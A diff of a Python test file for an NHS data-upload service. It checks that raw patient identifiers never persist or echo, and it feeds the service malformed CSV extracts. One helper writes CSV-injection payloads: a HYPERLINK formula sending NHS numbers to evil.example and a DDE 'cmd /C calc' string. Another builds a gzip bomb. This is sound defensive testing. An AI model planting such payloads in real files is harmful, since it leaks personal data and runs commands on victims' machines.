@@ -11,14 +11,19 @@ surname that is also an English word in the policy does not cry wolf.
 
 from __future__ import annotations
 
+import contextlib
 import csv
+import gzip
+import io
 import json
 import logging
 import re
 import subprocess
 import tempfile
+from collections.abc import Callable, Iterator
 from datetime import date
 from pathlib import Path
+from typing import Any
 
 import pytest
 from sqlalchemy import Engine, inspect, text
@@ -115,6 +120,90 @@ def council_submitter(ctx, people):
     return add_council_submitter(ctx)
 
 
+@pytest.fixture
+def response_bodies(client) -> list[str]:
+    """Every response body the test client receives, in order (scanned like a log)."""
+    bodies: list[str] = []
+
+    def keep(response: Any) -> None:
+        response.read()
+        bodies.append(response.content.decode("latin-1"))
+
+    client.event_hooks["response"].append(keep)
+    return bodies
+
+
+@pytest.fixture
+def app_tmp(tmp_path_factory, monkeypatch) -> Path:
+    """The app's temporary directory, to be scanned: ``tempfile`` makes its files there."""
+    directory = tmp_path_factory.mktemp("canary-apptmp")
+    monkeypatch.setattr(tempfile, "tempdir", str(directory))
+    return directory
+
+
+def database_places(settings, admin_engine: Engine, backend: str) -> dict[str, str]:
+    """The database as an attacker with a copy of it reads it: a logical dump of every
+    table, and the SQLite files' bytes or a real ``pg_dump``."""
+    places: dict[str, str] = {"database (logical dump)": logical_dump(admin_engine)}
+    if backend == "sqlite":
+        db_file = Path(make_url(settings.database_url).database or "")
+        for suffix in ("", "-wal", "-shm", "-journal"):
+            candidate = Path(f"{db_file}{suffix}")
+            if candidate.exists():
+                places[f"sqlite file {candidate.name}"] = candidate.read_bytes().decode("latin-1")
+    else:
+        places["pg_dump"] = pg_dump(settings.database_url)
+    return places
+
+
+def pg_dump(database_url: str) -> str:
+    url = make_url(database_url)
+    dumped = subprocess.run(
+        ["pg_dump", "-h", url.host or "127.0.0.1", "-p", str(url.port or 5432), url.database or ""],
+        capture_output=True,
+        text=True,
+        check=True,
+        timeout=300,
+    )
+    return dumped.stdout
+
+
+def everywhere(
+    settings,
+    admin_engine: Engine,
+    backend: str,
+    app_tmp: Path,
+    caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+    bodies: list[str],
+) -> dict[str, str]:
+    """Every place a raw value could end up: the database, the data and temporary
+    directories, every log record and line, and every response body."""
+    places = database_places(settings, admin_engine, backend)
+    for path, content in {**file_texts(settings.data_dir), **file_texts(app_tmp)}.items():
+        places[str(path)] = content
+    captured = capsys.readouterr()
+    places["logs"] = "\n".join(
+        [r.getMessage() + json.dumps(r.__dict__, default=str) for r in caplog.records]
+        + [captured.out, captured.err]
+    )
+    places["response bodies"] = "\n".join(bodies)
+    return places
+
+
+@contextlib.contextmanager
+def all_logs(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
+    """The app's JSON logging at DEBUG, captured, for the length of the block."""
+    from app.logs import configure_logging
+
+    configure_logging("DEBUG")
+    try:
+        with caplog.at_level(logging.DEBUG):
+            yield
+    finally:
+        logging.getLogger().handlers[:] = []
+
+
 def test_no_raw_identifier_is_kept_anywhere_after_real_uploads(
     client,
     ctx,
@@ -126,24 +215,17 @@ def test_no_raw_identifier_is_kept_anywhere_after_real_uploads(
     caplog,
     capsys,
     tmp_path_factory,
-    monkeypatch,
+    app_tmp,
+    response_bodies,
 ):
-    from app.logs import configure_logging
-
     inputs = tmp_path_factory.mktemp("canary-input")
     write_extracts(inputs, persons=400, seed=11)
     episodes, clients = inputs / "nhs_episodes.csv", inputs / "asc_clients.csv"
-    app_tmp = tmp_path_factory.mktemp("canary-apptmp")
-    monkeypatch.setattr(tempfile, "tempdir", str(app_tmp))
 
     baseline = words_of(logical_dump(admin_engine))
-    configure_logging("DEBUG")
-    try:
-        with caplog.at_level(logging.DEBUG):
-            first = upload(client, people["submitter"].token, episodes, "nhs_episodes")
-            second = upload(client, council_submitter, clients, "asc_clients")
-    finally:
-        logging.getLogger().handlers[:] = []
+    with all_logs(caplog):
+        first = upload(client, people["submitter"].token, episodes, "nhs_episodes")
+        second = upload(client, council_submitter, clients, "asc_clients")
     assert first["status"] == second["status"] == "accepted"
     assert first["rows_accepted"] > 100 and second["rows_accepted"] > 5
 
@@ -151,39 +233,9 @@ def test_no_raw_identifier_is_kept_anywhere_after_real_uploads(
     names -= baseline
     assert len(exact) > 500 and len(names) > 100
 
-    places: dict[str, str] = {"database (logical dump)": logical_dump(admin_engine)}
-    if backend == "sqlite":
-        db_file = Path(make_url(settings.database_url).database or "")
-        for suffix in ("", "-wal", "-shm", "-journal"):
-            candidate = Path(f"{db_file}{suffix}")
-            if candidate.exists():
-                places[f"sqlite file {candidate.name}"] = candidate.read_bytes().decode("latin-1")
-    else:
-        url = make_url(settings.database_url)
-        dumped = subprocess.run(
-            [
-                "pg_dump",
-                "-h",
-                url.host or "127.0.0.1",
-                "-p",
-                str(url.port or 5432),
-                url.database or "",
-            ],
-            capture_output=True,
-            text=True,
-            check=True,
-            timeout=120,
-        )
-        places["pg_dump"] = dumped.stdout
-    for path, content in {**file_texts(settings.data_dir), **file_texts(app_tmp)}.items():
-        places[str(path)] = content
-    captured = capsys.readouterr()
-    places["logs"] = "\n".join(
-        [r.getMessage() + json.dumps(r.__dict__, default=str) for r in caplog.records]
-        + [captured.out, captured.err]
-    )
-
-    assert leaks(places, exact, names) == []
+    places = everywhere(settings, admin_engine, backend, app_tmp, caplog, capsys, response_bodies)
+    found = leaks(places, exact, names)
+    assert not found, "\n".join(found)
 
 
 def leaks(places: dict[str, str], exact: set[str], names: set[str]) -> list[str]:
@@ -209,3 +261,175 @@ def test_the_canary_finds_a_planted_identifier(ctx, admin_engine, tmp_path):
         AuditLog(session).record(Actor.cli(), "test.plant", details={"oops": f"{nhs} {name}"})
     found = leaks({"db": logical_dump(admin_engine)}, exact, names)
     assert found == ["db: 1 values, 1 names"]
+
+
+# --------------------------------------------------------------------------- malformed extracts
+
+
+def _rows(text_: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text_, newline="")))
+
+
+def _csv(rows: list[list[str]]) -> bytes:
+    out = io.StringIO(newline="")
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    return out.getvalue().encode("utf-8")
+
+
+def header_less(text_: str) -> bytes:
+    """The extract without its header row: the first patient's cells arrive as a header."""
+    return _csv(_rows(text_)[1:])
+
+
+def value_in_header(text_: str) -> bytes:
+    """One extra header cell holding a patient's NHS number, an empty cell in each row."""
+    header, *rows = _rows(text_)
+    return _csv([[*header, rows[0][0]], *([*r, ""] for r in rows)])
+
+
+def shifted_columns(text_: str) -> bytes:
+    """A stray comma after the NHS number in every other row: each identifier moves one
+    column right (the family name into the date of birth, the record id into the
+    admission date...) and the last cell drops off, so the cell count still fits."""
+    header, *rows = _rows(text_)
+    return _csv([header, *([r[0], "", *r[1:-1]] if i % 2 else r for i, r in enumerate(rows))])
+
+
+def identifiers_in_attributes(text_: str) -> bytes:
+    """Every attribute column holding an identifier of its own row."""
+    header, *rows = _rows(text_)
+    at = {name: header.index(name) for name in header}
+    moved = {
+        "admission_date": "postcode",
+        "discharge_date": "nhs_number",
+        "admission_method": "given_name",
+        "primary_diagnosis": "family_name",
+        "provider_code": "episode_id",
+    }
+    out = [header]
+    for row in rows:
+        row = list(row)
+        for attribute, identifier in moved.items():
+            row[at[attribute]] = row[at[identifier]]
+        out.append(row)
+    return _csv(out)
+
+
+def nul_bytes(text_: str) -> bytes:
+    """A NUL byte inside the names and the postcode of every row."""
+    header, *rows = _rows(text_)
+    at = [header.index(c) for c in ("given_name", "family_name", "postcode")]
+    out = [header]
+    for row in rows:
+        row = list(row)
+        for i in at:
+            half = len(row[i]) // 2
+            row[i] = f"{row[i][:half]}\x00{row[i][half:]}"
+        out.append(row)
+    return _csv(out)
+
+
+def formula_payloads(text_: str) -> bytes:
+    """Spreadsheet formulas around the identifiers (CSV injection payloads)."""
+    header, *rows = _rows(text_)
+    given, family = header.index("given_name"), header.index("family_name")
+    out = [header]
+    for row in rows:
+        row = list(row)
+        row[given] = f'=HYPERLINK("http://evil.example/?{row[0]}","{row[given]}")'
+        row[family] = f"+cmd|' /C calc {row[family]}'!A0"
+        out.append(row)
+    return _csv(out)
+
+
+def gzip_bomb(text_: str) -> bytes:
+    """A few real rows, then 8 MiB of blank lines: about 1000:1 compressed."""
+    lines = text_.splitlines(keepends=True)
+    return gzip.compress("".join(lines[:4]).encode() + b"\n" * (8 * 1024 * 1024), 9)
+
+
+_HEADER_KEPT = pytest.mark.xfail(
+    strict=True,
+    reason="a refused header's cells still reach the database (the submission row): "
+    "remove this mark when header refusals keep no cell text",
+)
+_NO_CAP = pytest.mark.xfail(
+    strict=True, reason="no decompression cap yet: remove this mark when it lands"
+)
+
+#: (how the extract is spoiled, what the service must do with it, marks until fixed)
+MALFORMED: list[tuple[Callable[[str], bytes], str, tuple[pytest.MarkDecorator, ...]]] = [
+    (header_less, "refused", (_HEADER_KEPT,)),
+    (value_in_header, "refused", (_HEADER_KEPT,)),
+    (shifted_columns, "either", ()),
+    (identifiers_in_attributes, "either", ()),
+    (nul_bytes, "either", ()),
+    (formula_payloads, "either", ()),
+    (gzip_bomb, "refused", (_NO_CAP,)),
+]
+
+
+def send(client, token: str, body: bytes, schema: str) -> tuple[int, dict[str, Any]]:
+    """POST then one PATCH, as ``upload`` does, but a refusal is an answer, not a failure
+    (and no assertion message quotes a body)."""
+    headers = {"Authorization": f"Bearer {token}"}
+    created = client.post(
+        "/api/v1/submissions",
+        json={"schema": schema},
+        headers={**headers, "Upload-Length": str(len(body))},
+    )
+    assert created.status_code == 201, "the submission was not created"
+    done = client.patch(
+        f"/api/v1/submissions/{created.json()['id']}",
+        content=body,
+        headers={
+            **headers,
+            "Upload-Offset": "0",
+            "Content-Type": "application/offset+octet-stream",
+        },
+    )
+    answer = done.json() if done.headers.get("content-type", "").endswith("json") else {}
+    return done.status_code, answer
+
+
+@pytest.mark.parametrize(
+    ("make", "outcome"),
+    [pytest.param(m, o, id=m.__name__, marks=marks) for m, o, marks in MALFORMED],
+)
+def test_no_raw_identifier_of_a_malformed_extract_is_kept_or_echoed(
+    make,
+    outcome,
+    client,
+    ctx,
+    settings,
+    people,
+    admin_engine,
+    backend,
+    caplog,
+    capsys,
+    tmp_path,
+    app_tmp,
+    response_bodies,
+):
+    write_extracts(tmp_path, persons=60, seed=17)
+    clean = tmp_path / "nhs_episodes.csv"
+    body = make(clean.read_text(encoding="utf-8"))
+    baseline = words_of(logical_dump(admin_engine))
+    with all_logs(caplog):
+        status, answer = send(client, people["submitter"].token, body, "nhs_episodes")
+        listed = client.get("/api/v1/submissions", headers=_bearer(people["submitter"].token))
+        assert listed.status_code == 200
+    accepted = status == 200 and answer.get("status") == "accepted"
+    if outcome == "refused":
+        assert not accepted, f"{make.__name__}: the extract was accepted"
+
+    exact, names = identifiers([clean])
+    names -= baseline
+    assert exact and names
+    places = everywhere(settings, admin_engine, backend, app_tmp, caplog, capsys, response_bodies)
+    found = leaks(places, exact, names)
+    assert not found, "\n".join(found)
+
+
+def _bearer(token: str) -> dict[str, str]:
+    return {"Authorization": f"Bearer {token}"}
